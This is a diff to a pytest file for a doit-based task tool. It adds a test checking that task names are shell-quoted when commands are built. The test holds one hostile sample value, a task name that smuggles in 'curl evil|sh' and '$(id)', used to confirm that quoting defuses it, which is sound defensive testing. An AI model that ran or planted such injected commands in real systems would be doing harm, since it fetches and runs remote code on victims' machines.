@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Sequence
 from typing import Any
 
 import pytest
 from doit.exceptions import InvalidTask
 
-from astest_tasks.config.pipeline import BASENAME, DEFAULT_PIPELINE, Pipeline
+from astest_tasks.config.pipeline import BASENAME, DEFAULT_PIPELINE, Pipeline, task_command
 from astest_tasks.config.shards import Shard
 from astest_tasks.core.errors import UserError
 from astest_tasks.tasks.factory import make_astest_tasks
@@ -101,3 +102,12 @@ def test_the_shards_split_the_pairs_between_them_and_each_reports_apart(
 def test_a_bad_shard_stops_task_creation_with_the_fix(tmp_project: ProjectBuilder) -> None:
     with pytest.raises(InvalidTask, match=r"--shard '3': not of the form k/N; fix: "):
         list(make_astest_tasks(tmp_project())(shard="3"))
+
+
+def test_a_task_command_quotes_a_name_a_shell_would_split_and_leaves_plain_ones_alone() -> None:
+    assert task_command("doit", "astest:run:wasi:math") == "doit astest:run:wasi:math"
+    assert task_command("doit", "astest:run:wasi:a%3Db") == "doit astest:run:wasi:a%3Db"
+    hostile = "astest:run:wasi:x;curl evil|sh $(id)"
+    line = task_command("doit", hostile)
+    assert shlex.split(line) == ["doit", hostile]
+    assert task_command("doit forget", hostile).startswith("doit forget '")
